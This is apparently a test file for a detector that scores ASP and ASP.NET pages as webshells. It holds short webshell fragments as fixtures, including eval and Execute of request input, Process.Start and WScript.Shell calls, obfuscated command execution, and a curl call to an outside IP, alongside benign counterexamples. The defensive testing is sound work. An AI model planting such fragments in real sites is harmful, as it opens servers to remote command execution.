import { describe, expect, it } from 'vitest';
import type { Language } from '../../src/webshell/language.js';
import { lexicalSignals } from '../../src/webshell/lexical/rules.js';
import { DETECTED, score } from '../../src/webshell/score.js';

type Page = Extract<Language, 'asp' | 'aspx'>;

const PAGE = '<%@ Page Language="C#" %>';
const SERVER = '<script runat="server">';
/** Short pages are judged by less. */
const MARKUP = '<p>What the shop sells.</p>\n'.repeat(60);

const scoreOf = (language: Page, source: string) => score(lexicalSignals(language, source)).score;

describe('a page of ASP or ASP.NET', () => {
  it.each<[string, Page, string]>([
    [
      'keeps an upload in the folder of a field, behind a text that ends with a backslash',
      'aspx',
      `${PAGE}${SERVER}void Go() { up.SaveAs(folder.Text + "\\\\" + name); }</script>`,
    ],
    [
      'writes behind a text that ends with a backslash, in Basic',
      'asp',
      '<% p = Request("p") & "\\" & Request("n")\nSet f = fso.CreateTextFile(p)\nf.Write Request("t") %>',
    ],
    [
      'evaluates what it kept for the next call',
      'asp',
      '<% Session("k") = Request("x")\nc = Session("k")\nExecute c %>',
    ],
    [
      'evaluates the request by another name',
      'aspx',
      '<%@ Page Language="JScript" %><% var r = Context.Request;\nvar c = r["x"];\neval(c); %>',
    ],
    ['evaluates what a header holds', 'asp', '<% c = Request.ServerVariables("HTTP_X_CODE")\nExecute c %>'],
    [
      'runs what a method of a web service is given',
      'aspx',
      '<%@ WebService Class="A" %>\npublic class A {\n[WebMethod]\npublic string Go(string line) { Process.Start("a", line); } }',
    ],
    [
      'runs what a method of a web service is given, in Basic',
      'aspx',
      '<%@ WebService Language="VB" Class="A" %>\n<WebMethod()> _\nPublic Function Go(ByVal line As String) As String\nProcess.Start("a", line)\nEnd Function',
    ],
    [
      'passes it to a function of Basic that runs it',
      'aspx',
      '<%@ Page Language="VB" %><script runat="server">\nSub Go(ByVal line As String)\nProcess.Start(line)\nEnd Sub\nSub Page_Load()\nGo(Request("x"))\nEnd Sub</script>',
    ],
    [
      'runs it by the function of Basic',
      'aspx',
      '<%@ Page Language="VB" %><% c = Request("c")\nShell(c, AppWinStyle.Hide) %>',
    ],
    [
      'has Windows run it',
      'aspx',
      `${PAGE}<% var w = new ManagementClass("Win32_Process"); w.InvokeMethod("Create", new object[] { Request["c"] }); %>`,
    ],
    ['runs it by PowerShell', 'aspx', `${PAGE}<% shell.AddScript(Request["c"]); %>`],
    ['compiles it', 'aspx', `${PAGE}<% provider.CompileAssemblyFromSource(options, Request["c"]); %>`],
    [
      'loads it as a program',
      'aspx',
      `${PAGE}<% var b = Decode(Request["c"]);\nAppDomain.CurrentDomain.Load(b).CreateInstance("A"); %>`,
    ],
    [
      'runs the scripts of a style sheet that it is given',
      'aspx',
      `${PAGE}${SERVER}void Go() { x.LoadXml(field.Text); s.EnableScript = true; new XslCompiledTransform().Load(x, s, r); }</script>`,
    ],
    [
      'sends its query as it comes',
      'aspx',
      `${PAGE}${SERVER}void Go() { var q = Request["q"]; new SqlCommand(q, db).ExecuteReader(); }</script>`,
    ],
    [
      'keeps uploads of any kind under their own names',
      'aspx',
      `${PAGE}${SERVER}void Go() { up.SaveAs(Server.MapPath(up.FileName)); }</script>`,
    ],
    [
      'carries a page that evaluates the request',
      'asp',
      '<% bad = "If Request(""a"")<>"""" Then Execute(Session(""a""))" %>',
    ],
    [
      'makes a shell by the number of its class',
      'asp',
      '<object runat="server" id="s" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>',
    ],
    [
      'makes a shell by its type',
      'aspx',
      `${PAGE}<% Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell")); %>`,
    ],
    [
      'writes over itself, and has itself compiled',
      'aspx',
      `${PAGE}<% File.WriteAllText(self, Decode(text)); BuildManager.CreateInstanceFromVirtualPath(path, typeof(Page)); %>`,
    ],
    ['calls home', 'aspx', `${PAGE}<% Process.Start("curl -k https://198.51.100.7/a"); %>`],
    [
      'writes a page, as a handler',
      'aspx',
      '<%@ WebHandler Class="H" %> class H { void Go() { File.WriteAllText(Server.MapPath("news.aspx"), text); } }',
    ],
    [
      'ends processes',
      'aspx',
      `${PAGE}<% foreach (var p in Process.GetProcessesByName(field.Text)) p.Kill(); %>`,
    ],
    [
      'takes an evaluator by its name',
      'aspx',
      '<%@ Page Language="JScript" %><% var e = eval; e(Request["x"]); %>',
    ],
    [
      'hides names behind signs and marks',
      'aspx',
      `${PAGE}<% @Process.@St\u200cart("cmd.exe", @Request["c"]); %>`,
    ],
    [
      'writes characters by eight digits',
      'aspx',
      `${PAGE}<% \\U00000050rocess.Start("cmd.exe", \\U00000052equest["c"]); %>`,
    ],
    [
      'reads an upload into a buffer, and writes it to the path of a function that returns the request',
      'aspx',
      `${PAGE}${SERVER}NameValueCollection Sent() { return Request.Params; }\nvoid Go() { this.Sent();\nvar up = Request.Files[0];\nvar b = new byte[9];\nup.InputStream.Read(b, 0, 9);\nvar path = this.Sent()["a"];\nvar f = new FileStream(path, FileMode.Create);\nf.Write(b, 0, 9); }</script>`,
    ],
    [
      'hides an evaluator in a class',
      'asp',
      '<% Class A\nSub Go(b)\nExecute b\nEnd Sub\nEnd Class\nSet c = New A\nc.Go Request("x") %>',
    ],
  ])('is found when it %s', (_, language, source) => {
    expect(scoreOf(language, `${source}${MARKUP}`)).toBeGreaterThanOrEqual(DETECTED);
  });

  it.each<[string, Page, string]>([
    [
      'keeps an upload in a folder of its own',
      'aspx',
      `${PAGE}${SERVER}void Go() { up.SaveAs(Server.MapPath("files/") + Guid.NewGuid()); }</script>`,
    ],
    [
      'keeps pictures under their own names',
      'aspx',
      `${PAGE}${SERVER}void Go() { if (Path.GetExtension(up.FileName) == ".png") up.SaveAs(Server.MapPath(up.FileName)); }</script>`,
    ],
    [
      'puts what it is sent into a query of its own',
      'aspx',
      `${PAGE}${SERVER}void Go() { var q = "select * from news where id=" + Request["id"]; new SqlCommand(q, db).ExecuteReader(); }</script>`,
    ],
    [
      'keeps for the next call what it evaluates nothing of',
      'asp',
      '<% Session("user") = Request("user")\ncode = Session("greeting")\nExecute code %>',
    ],
    [
      'answers as a web service',
      'aspx',
      '<%@ WebService Class="A" %>\npublic class A {\n[WebMethod]\npublic string Go(string line) { Process.Start("notify.exe", "restart"); return line; } }',
    ],
    [
      'has a library of classes',
      'asp',
      `<% Class A\nSub Go(b)\nExecute b\nEnd Sub\nEnd Class\n${"' what it does\n".repeat(400)}c.Go Request("x") %>`,
    ],
    [
      'makes a mail by the number of its class',
      'asp',
      '<object runat="server" classid="clsid:CD000001-0000"></object>',
    ],
  ])('is left alone when it %s', (_, language, source) => {
    expect(scoreOf(language, `${source}${MARKUP}`)).toBeLessThan(DETECTED);
  });

  it('is read in time in proportion to its length', () => {
    const pieces = [
      'r = Request\n',
      'Session("a") = ',
      '[WebMethod] public string ',
      '<WebMethod()> _\n',
      'a\\',
      '"\\',
      '@Process.',
      '\\U0000',
      'SaveAs(a.FileName, ',
      '<object runat ',
      'eval(request("',
      'f() {',
      'return a;',
      'a.b.Read(',
    ];
    for (const piece of pieces) {
      const source = `${PAGE}<% r = Request("x") %>${piece.repeat(200_000 / piece.length)}`;
      const began = process.cpuUsage();
      lexicalSignals('aspx', source);
      // Quadratic would be minutes.
      expect(process.cpuUsage(began).user).toBeLessThan(10_000_000);
    }
  });
});
